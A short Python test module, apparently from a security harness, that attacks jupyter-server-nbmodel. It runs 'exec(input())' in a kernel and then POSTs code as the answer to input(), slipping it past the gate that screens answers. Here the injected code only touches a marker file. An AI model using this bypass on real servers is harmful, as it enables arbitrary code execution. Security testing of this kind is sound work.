"""jupyter-server-nbmodel's other way in: an answer to `input()` in a POST, past the gate that judges answers."""

from __future__ import annotations

from pathlib import Path

from attack_house import Attacker, await_mark, touch
from support.servers import wait_for

NEEDS = ("own",)
CAUSES = {"closed"}


def strike(person: Attacker, mark: Path, own: str) -> bool:
    status, asked = person.request("POST", f"/api/kernels/{own}/execute", {"code": "exec(input())"})
    if status < 300:
        wait_for(lambda: person.request("GET", asked["request_url"])[0] == 300, "the kernel to ask")
    status, _ = person.request("POST", f"/api/kernels/{own}/input", {"input": touch(mark)})
    if status < 300:
        await_mark(mark, "the answer in a POST")
    return status < 300
